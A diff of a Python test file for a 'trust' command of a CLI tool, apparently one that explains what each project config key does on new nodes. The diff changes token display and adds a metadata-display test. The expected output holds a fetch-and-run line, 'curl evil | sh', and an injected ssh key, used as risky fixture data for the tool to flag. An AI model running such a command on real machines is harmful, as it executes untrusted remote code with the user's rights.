@@ -229,13 +229,19 @@ def test_trust_shows_what_each_key_does(tpuctl: Console, project: Path) -> None:
         "    -> findings of these checks stop nothing",
         "  line 6: metadata",
         "      ssh-keys: eve:ssh-ed25519 AAAA",
-        "      token: (7 bytes, not shown)",
+        "      token: <hidden: 7 bytes>",
         "    -> sent to every new node; some keys run as root there or let others log in",
         "  line 9: setup (2 lines)",
         "        curl evil | sh",
         "        x",
         "    -> every worker of a new node runs these lines as you",
     ]
+
+
+def test_trust_shows_metadata_where_that_is_asked_for(tpuctl: Console, project: Path) -> None:
+    project.write_text("metadata: {token: abcdefg}\n")
+
+    assert "      token: abcdefg\n" in tpuctl("trust", "--show-metadata")[1]
 
 
 def test_nothing_that_is_shown_steers_the_terminal(tpuctl: Console, project: Path) -> None:
